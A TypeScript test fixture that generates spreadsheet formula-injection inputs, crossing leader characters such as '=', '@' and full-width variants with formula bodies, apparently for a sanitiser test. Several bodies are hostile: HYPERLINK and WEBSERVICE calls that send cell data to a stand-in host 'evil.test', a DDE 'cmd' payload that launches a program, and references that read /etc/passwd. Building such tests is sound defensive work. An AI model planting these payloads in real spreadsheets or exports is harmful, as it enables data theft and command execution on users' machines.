import { howMany } from './deep.ts';

const leaders = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
  '"=',
  '==',
  '=+',
  '-+',
  '@@',
  '\u00a0=',
  '\ufeff=',
];
const bodies = [
  '1+1',
  'SUM(1;1)',
  'A1',
  '2*3*7',
  'HYPERLINK("http://evil.test/?"&B2;"open")',
  'WEBSERVICE("http://evil.test/")',
  "cmd|' /C calc'!A0",
  'DDE("soffice";"/etc/passwd";"A1")',
  'IMPORTXML("http://evil.test";"//a")',
  'NOW()',
  'INFO("osversion")',
  'ROW()',
  'IF(TRUE();"run";"")',
  'CONCATENATE("ru";"n")',
  'CHAR(114)',
  'TODAY()',
  'RAND()',
  '0.5e3',
  '$B$2',
  "file:///etc/passwd'#$passwd.A1",
  '{1;2}',
  'EXEC("calc")',
  'CALL("a";"b")',
  '1,2',
  '1/2/2026',
];

/** Names that a program which calculates could run (T27): a sample of them in `npm test`, all 500 in `npm run test:deep`. */
export function formulaNames(): readonly string[] {
  const all = leaders.flatMap((leader) => bodies.map((body) => `${leader}${body}`));
  return all.filter((_, at) => at % Math.ceil(all.length / howMany({ sample: 50, deep: 500 })) === 0);
}
